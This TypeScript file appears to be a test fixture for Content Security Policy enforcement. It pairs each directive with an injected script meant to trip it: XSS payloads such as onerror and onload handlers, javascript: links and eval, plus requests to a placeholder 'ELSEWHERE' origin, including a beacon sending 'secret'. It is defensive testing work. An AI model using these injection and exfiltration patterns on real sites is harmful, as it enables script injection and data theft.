/**
 * What a page would do that somebody got markup or a script into: each as the source of a script that runs in the
 * page, and the directive that must answer it. `ELSEWHERE` is another origin, which counts what reaches it.
 */
export interface Attack {
  readonly name: string;
  readonly script: string;
  readonly directive: string;
}

const add = (markup: string) => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)});`;
const element = (tag: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}));`;
const head = (tag: string, properties: string) =>
  `document.head.append(Object.assign(document.createElement('${tag}'), ${properties}));`;
const quietly = (code: string) => `try { ${code} } catch { /* the answer is the event */ }`;

function attack(directive: string, name: string, script: string): Attack {
  return { name, script, directive };
}

const HIT = 'window.attacked = true';

export const ATTACKS: readonly Attack[] = [
  attack('script-src-elem', 'an inline script', element('script', `{ textContent: '${HIT}' }`)),
  attack('script-src-attr', 'an event handler', add(`<img src="/nothing.png" onerror="${HIT}">`)),
  attack('script-src-attr', 'an event handler of a picture in markup', add(`<svg onload="${HIT}"></svg>`)),
  attack('script-src', 'eval', quietly(`eval('${HIT}')`)),
  attack('script-src', 'a function from text', quietly(`new Function('${HIT}')()`)),
  attack('script-src', 'a timer with text', quietly(`setTimeout('${HIT}', 0)`)),
  attack(
    'script-src-elem',
    'a javascript: address',
    `${add(`<a id="attack" href="javascript:${HIT}">x</a>`)} document.querySelector('#attack').click();`,
  ),
  attack('script-src-elem', 'a script from elsewhere', element('script', "{ src: 'ELSEWHERE/x.js' }")),
  attack(
    'script-src-elem',
    'a script from a data: address',
    element('script', `{ src: 'data:text/javascript,${HIT}' }`),
  ),
  attack(
    'script-src-elem',
    'a script from memory',
    element('script', `{ src: URL.createObjectURL(new Blob(['${HIT}'], { type: 'text/javascript' })) }`),
  ),
  attack('script-src-elem', 'a module from elsewhere', "import('ELSEWHERE/x.js').catch(() => undefined);"),
  attack('style-src-elem', 'an inline style sheet', head('style', "{ textContent: 'body { color: red }' }")),
  attack('style-src-attr', 'an inline style', add('<p style="color: red">x</p>')),
  attack(
    'style-src-elem',
    'a style sheet from elsewhere',
    head('link', "{ rel: 'stylesheet', href: 'ELSEWHERE/x.css' }"),
  ),
  attack(
    'style-src-elem',
    'a style sheet from a data: address',
    head('link', "{ rel: 'stylesheet', href: 'data:text/css,body{color:red}' }"),
  ),
  attack('img-src', 'a picture from elsewhere', element('img', "{ src: 'ELSEWHERE/x.png' }")),
  attack('img-src', 'a picture from a data: address', element('img', "{ src: 'data:image/png;base64,AAAA' }")),
  attack('img-src', 'a background from elsewhere', "document.body.style.backgroundImage = 'url(ELSEWHERE/x.png)';"),
  attack(
    'font-src',
    'a font from elsewhere',
    "new FontFace('x', 'url(ELSEWHERE/x.woff2)').load().catch(() => undefined);",
  ),
  attack('media-src', 'a sound from elsewhere', element('audio', "{ src: 'ELSEWHERE/x.mp3' }")),
  attack('media-src', 'a film from elsewhere', element('video', "{ src: 'ELSEWHERE/x.mp4' }")),
  attack('connect-src', 'fetch', "fetch('ELSEWHERE/x').catch(() => undefined);"),
  attack(
    'connect-src',
    'a request of the old kind',
    "const r = new XMLHttpRequest(); r.open('GET', 'ELSEWHERE/x'); r.send();",
  ),
  attack('connect-src', 'a beacon', "navigator.sendBeacon('ELSEWHERE/x', 'secret');"),
  attack('connect-src', 'a socket', quietly("new WebSocket('ELSEWHERE/x'.replace('http', 'ws'))")),
  attack('connect-src', 'a stream of events', quietly("new EventSource('ELSEWHERE/x')")),
  attack(
    'connect-src',
    'a ping of a link',
    `${add('<a id="ping" href="#here" ping="ELSEWHERE/x">x</a>')} document.querySelector('#ping').click();`,
  ),
  attack('frame-src', 'a frame from elsewhere', element('iframe', "{ src: 'ELSEWHERE/' }")),
  attack('frame-src', 'a frame of its own', element('iframe', "{ src: '/' }")),
  attack('frame-src', 'a frame from a data: address', element('iframe', "{ src: 'data:text/html,x' }")),
  attack('object-src', 'an object from elsewhere', element('object', "{ data: 'ELSEWHERE/x.pdf' }")),
  attack('object-src', 'an embedded file', element('embed', "{ src: 'ELSEWHERE/x.pdf' }")),
  attack('base-uri', 'another base', head('base', "{ href: 'ELSEWHERE/' }")),
  attack(
    'form-action',
    'a form that is sent elsewhere',
    `${add('<form id="sent" action="ELSEWHERE/x" method="post"></form>')} document.querySelector('#sent').submit();`,
  ),
  attack(
    'form-action',
    'a form that is sent back',
    `${add('<form id="back" action="/search/"></form>')} document.querySelector('#back').submit();`,
  ),
  attack('worker-src', 'a thread from memory', quietly("new Worker(URL.createObjectURL(new Blob(['0'])))")),
  attack('worker-src', 'a thread from a data: address', quietly("new Worker('data:text/javascript,0')")),
];
